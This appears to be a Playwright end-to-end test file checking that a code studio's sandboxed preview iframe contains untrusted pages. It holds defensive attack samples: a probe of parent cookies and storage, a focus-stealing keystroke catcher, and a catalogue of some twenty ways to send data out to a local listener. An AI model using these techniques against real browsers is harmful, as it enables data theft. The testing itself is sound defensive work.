"""Other people's pages in the preview, in a real browser: what they may and may not do."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.client import create_project
from tests.e2e.conftest import Studio, wait_for

pytestmark = pytest.mark.e2e
FRAME = ".preview iframe"

# How long the studio's own page was held up at most, and when the frame went; milliseconds.
WATCH = """(seconds) => new Promise((resolve) => {
  const began = performance.now();
  let last = began, pause = 0;
  const timer = setInterval(() => {
    const now = performance.now();
    pause = Math.max(pause, now - last);
    last = now;
    const gone = !document.querySelector('.preview iframe');
    if (gone || now - began > seconds * 1000) {
      clearInterval(timer);
      resolve({ pause, gone, after: now - began });
    }
  }, 10);
})"""

Run = Callable[..., Page]


@pytest.fixture(scope="module")
def project(studio: Studio) -> str:
    return studio.new_project({"index.html": "<h1>First</h1>"})


@pytest.fixture
def run(studio: Studio, project: str, page: Page) -> Run:
    """Save `files` as the project's newest revision and open the workspace on it."""

    def open_page(html: str, state: str = "running", **others: str) -> Page:
        number = studio.save(project, {"index.html": html, **others})
        page.goto(f"{studio.url}/p/{project}/")
        expect(page.locator(f"{FRAME}[src*='/r/{number}/']")).to_be_attached()
        if state:
            expect(page.locator(f".preview[data-state={state}]")).to_be_attached()
        return page

    return open_page


def said(page: Page) -> list[str]:
    """The lines in the console panel, each with its place."""
    toggle = page.get_by_role("button", name="Console")
    if toggle.get_attribute("aria-expanded") == "false":
        toggle.click()
    return [line.inner_text() for line in page.locator(".console li:not(.nothing)").all()]


def wait_for_line(page: Page, text: str) -> str:
    """The line of the console panel that contains `text`."""
    line: str = wait_for(
        lambda: next((line for line in said(page) if text in line), None), 10, f"the line {text!r}"
    )
    return line


def test_an_endless_loop_freezes_nothing_and_is_stopped(run: Run) -> None:
    page = run("<h1>Loop</h1><script>setTimeout(() => { while (true) {} }, 200)</script>")
    seen = page.evaluate(WATCH, 8)
    assert seen["gone"] and seen["after"] <= 5500 and seen["pause"] < 500, seen
    expect(page.locator(".preview[data-state=stuck] [role=status]")).to_be_visible()
    page.get_by_role("button", name="Run again", exact=True).click()
    expect(page.locator(FRAME)).to_be_attached()


def test_a_loop_before_anything_is_drawn_is_stopped_too(run: Run) -> None:
    page = run("<script>while (true) {}</script>", state="")
    # Where its hello is late, the second address is tried first.
    expect(page.locator(".preview[data-state=stuck]")).to_be_attached(timeout=15_000)


def test_a_page_that_works_is_left_alone(run: Run) -> None:
    page = run("<p>Quiet</p><script>for (let i = 1; i < 9999; i++) clearInterval(i)</script>")
    assert not page.evaluate(WATCH, 6)["gone"]
    expect(page.locator(".preview[data-state=running]")).to_be_attached()


def test_a_flood_of_messages_is_cut_off(run: Run) -> None:
    page = run(
        """<script>setTimeout(() => setInterval(() => {
          for (let i = 0; i < 20000; i++) parent.postMessage('x'.repeat(100), '*');
        }, 0), 300)</script>"""
    )
    seen = page.evaluate(WATCH, 8)
    assert seen["gone"] and seen["pause"] < 500, seen
    expect(page.locator(".preview[data-state=flooded] [role=status]")).to_be_visible()


def test_a_flood_of_lines_is_muted_and_the_page_lives_on(run: Run) -> None:
    page = run(
        "<script>setInterval(() => { for (let i = 0; i < 500; i++) console.log(i) }, 50)</script>"
    )
    wait_for_line(page, "left out")
    assert not page.evaluate(WATCH, 2)["gone"]


def test_stop_removes_the_page_and_run_again_brings_it_back(run: Run) -> None:
    page = run("<h1>Hello</h1>")
    page.get_by_role("button", name="Stop the page").click()
    expect(page.locator(FRAME)).not_to_be_attached()
    page.get_by_role("button", name="Run again", exact=True).click()
    expect(page.frame_locator(FRAME).locator("h1")).to_have_text("Hello")


REACH = """<script>
const tries = {
  'parent document': () => parent.document.title,
  'parent storage': () => parent.localStorage.length,
  'parent address': () => parent.location.href,
  'own cookie': () => document.cookie || 'empty',
  'cookie for localhost': () => { document.cookie = 'a=x; domain=localhost'; return 'set' },
  'top address': () => { top.location = 'about:blank'; return 'moved' },
  'popup': () => open('about:blank') ? 'opened' : (() => { throw 'null' })(),
  'indexedDB': () => indexedDB.open('x') && 'opened',
};
const tell = (name, what) => console.log(`${name}: ${what}`);
for (const [name, go] of Object.entries(tries)) {
  try { tell(name, `REACHED ${go()}`) } catch { tell(name, 'refused') }
}
fetch('http://localhost:PORT/')
  .then(() => tell('studio', 'REACHED'), () => tell('studio', 'refused'));
</script>"""


def test_a_page_reaches_neither_the_studio_nor_its_cookies(run: Run, studio: Studio) -> None:
    page = run("<p>Waiting</p>")
    assert any(cookie["name"] == "csrftoken" for cookie in page.context.cookies())
    headers: list[tuple[str, dict[str, str]]] = []
    page.on("request", lambda request: headers.append((request.url, request.all_headers())))
    page = run(REACH.replace("PORT", str(studio.port)))
    wait_for_line(page, "studio:")
    lines = said(page)
    assert len(lines) >= 9 and not [line for line in lines if "REACHED" in line], lines
    previews = [sent for url, sent in headers if ".localhost:" in url]
    assert previews and all("cookie" not in sent for sent in previews)
    assert page.url.startswith(studio.url)


def test_storage_works_survives_a_reload_and_stays_in_its_project(run: Run) -> None:
    page = run(
        """<p id="n"></p><script>
        localStorage.visits = Number(localStorage.getItem('visits') ?? 0) + 1;
        n.textContent = localStorage.visits;
        </script>"""
    )
    count = page.frame_locator(FRAME).locator("#n")
    expect(count).to_have_text("1")
    page.locator(".preview .toolbar button").first.click()
    expect(count).to_have_text("2")
    page.reload()
    expect(count).to_have_text("3")
    assert page.evaluate("localStorage.getItem('visits')") is None


def test_storage_follows_the_visitor_to_the_next_page(run: Run) -> None:
    first = "<script>localStorage.a = 'kept'; sessionStorage.b = 'too'</script>"
    second = "<p id='n'></p><script>n.textContent = localStorage.a + sessionStorage.b</script>"
    page = run(f"{first}<a href='next.html'>Next</a>", **{"next.html": second})
    page.frame_locator(FRAME).get_by_text("Next").click()
    expect(page.frame_locator(FRAME).locator("#n")).to_have_text("kepttoo")


def test_errors_and_lines_come_with_their_place(run: Run) -> None:
    page = run(
        "<!doctype html>\n<p>Hi\n<script>\nconsole.warn('careful', { a: 1 });\n"
        "setTimeout(() => { nothing.at.all });\nPromise.reject(new Error('later'));\n</script>"
        "<script src='app.js'></script><script src='no.js'></script>"
        "<img src='https://pictures.example/a.png'>",
        **{"app.js": "\n\nconsole.error('from a file')"},
    )
    assert "index.html:4" in wait_for_line(page, "careful {a: 1}")
    assert "index.html:5" in wait_for_line(page, "nothing is not defined")
    assert "index.html:6" in wait_for_line(page, "Error: later")
    assert "app.js:3" in wait_for_line(page, "from a file")
    wait_for_line(page, "no.js")
    assert "Blocked" in wait_for_line(page, "https://pictures.example/a.png")
    assert int(page.locator(".console .badge").inner_text()) >= 5


THIEF = """<input id="field" required><dialog id="box"><button>Me</button></dialog>
<p id="caught"></p><script>
const grab = () => { GRAB };
setInterval(grab, 50); grab(); addEventListener('blur', grab);
addEventListener('keydown', (event) => { caught.textContent += event.key });
</script>"""
TYPED = "The quick brown fox jumps over the lazy dog, twice."


@pytest.mark.parametrize("hovering", [False, True])
@pytest.mark.parametrize(
    "grab", ["field.focus()", "window.focus()", "window.focus(); field.focus()"]
)
def test_a_page_that_grabs_the_focus_catches_no_key(run: Run, grab: str, hovering: bool) -> None:
    page = run(THIEF.replace("GRAB", grab))
    box = page.get_by_role("textbox", name="Your wish")
    box.click()
    if hovering:
        page.locator(FRAME).hover(force=True)
    page.keyboard.type(TYPED, delay=40)
    expect(box).to_have_value(TYPED)
    assert page.frame_locator(FRAME).locator("#caught").inner_text() == ""


def test_who_clicks_into_the_page_types_into_the_page(run: Run) -> None:
    page = run("<input id='field' style='width: 300px'>")
    # Playwright's pointer, unlike a person's, enters a frame without the studio being told of it:
    # this is judged like a touch, by the activation alone.
    page.frame_locator(FRAME).locator("#field").click()
    page.keyboard.type("into the page", delay=20)
    expect(page.frame_locator(FRAME).locator("#field")).to_have_value("into the page")


class Listener:
    """A server that is not ours; remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.page = ""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(outer.page.encode() if self.path == "/" else b"")

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server.server_address[1]}"

    def leaks(self) -> set[str]:
        """The names of the ways by which something arrived."""
        return {path.split("/")[2].split("?")[0] for path in self.asked if "/leak/" in path}


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.server.shutdown()


# Ways out that leave the page in place; URL stands for the listener's address and the way's name.
QUIET_WAYS = {
    "fetch": "fetch('URL', { mode: 'no-cors' })",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()",
    "beacon": "navigator.sendBeacon('URL', 'data')",
    "websocket": "new WebSocket('URL'.replace('http', 'ws'))",
    "eventsource": "new EventSource('URL')",
    "image": "new Image().src = 'URL'",
    "script": "add('script').src = 'URL'",
    "module": "import('URL').catch(() => {})",
    "style": "Object.assign(add('link'), { rel: 'stylesheet', href: 'URL' })",
    "background": "document.body.style.background = 'url(URL)'",
    "font": "const f = new FontFace('x', 'url(URL)'); f.load().catch(() => {})",
    "video": "add('video').src = 'URL'",
    "frame": "add('iframe').src = 'URL'",
    "object": "add('object').data = 'URL'",
    "prefetch": "Object.assign(add('link'), { rel: 'prefetch', href: 'URL' })",
    "worker": "new Worker(`data:text/javascript,fetch('URL', { mode: 'no-cors' })`)",
    "popup": "open('URL')",
    "ping": "const a = Object.assign(add('a'), { href: '#x', ping: 'URL' }); a.click()",
}
# Ways out that take the page along.
LOUD_WAYS = {
    "self": "location.href = 'URL'",
    "refresh": "Object.assign(add('meta'), { httpEquiv: 'refresh', content: '0; url=URL' })",
    "form": "const f = add('form'); f.action = 'URL'; f.submit()",
    "link": "const a = Object.assign(add('a'), { href: 'URL' }); a.click()",
    "top": "top.location.href = 'URL'",
}


def escape(ways: dict[str, str], address: str) -> str:
    """A page that tries each way."""
    url = f"http://{address}/leak/{{}}?secret=1"
    tries = "".join(
        f"try {{ {{ {way.replace('URL', url.format(name))} }} }} catch {{}}\n"
        for name, way in ways.items()
    )
    add = "const add = (tag) => document.body.appendChild(document.createElement(tag));"
    return f"<!doctype html><body><script>{add}\n{tries}</script>"


def test_no_quiet_way_out_of_the_preview_is_open(run: Run, page: Page, listener: Listener) -> None:
    html = listener.page = escape(QUIET_WAYS, listener.address)
    page.goto(f"http://{listener.address}/")
    # Outside the preview the same page leaks, so the silence below means something.
    open_ways = QUIET_WAYS.keys() - {"popup"}
    wait_for(lambda: listener.leaks() >= open_ways, 10, f"{open_ways}")
    listener.asked.clear()
    run(html)
    page.wait_for_timeout(2000)
    assert listener.leaks() == set()


@pytest.mark.parametrize("name", LOUD_WAYS)
def test_a_page_cannot_carry_data_out_by_going_away(
    run: Run, page: Page, listener: Listener, name: str
) -> None:
    html = listener.page = escape({name: LOUD_WAYS[name]}, listener.address)
    page.goto(f"http://{listener.address}/")
    wait_for(lambda: listener.leaks() == {name}, 10, name)
    listener.asked.clear()
    run(html)
    page.wait_for_timeout(1500)
    assert listener.leaks() == set()
    assert page.url.startswith("http://localhost:")


def test_a_page_is_seen_growing_while_it_is_written(slow_studio: Studio, page: Page) -> None:
    project = create_project(slow_studio.url, "A garden, please")
    page.goto(f"{slow_studio.url}/p/{project}/")
    expect(page.locator(f"{FRAME}[src*='/t/']")).to_be_attached(timeout=15000)
    growing = page.frame_locator(FRAME)
    expect(growing.locator("h1")).to_have_text("The garden", timeout=20000)
    first = growing.locator("html").evaluate(
        "() => [document.readyState, document.compatMode, document.querySelectorAll('p').length]"
    )
    assert first[:2] == ["loading", "CSS1Compat"] and first[2] < 5
    expect(growing.locator("#three")).to_be_visible(timeout=15000)
    expect(page.locator(f"{FRAME}[src*='/r/']")).to_be_attached(timeout=40000)
    expect(growing.locator("#grow")).to_be_visible()
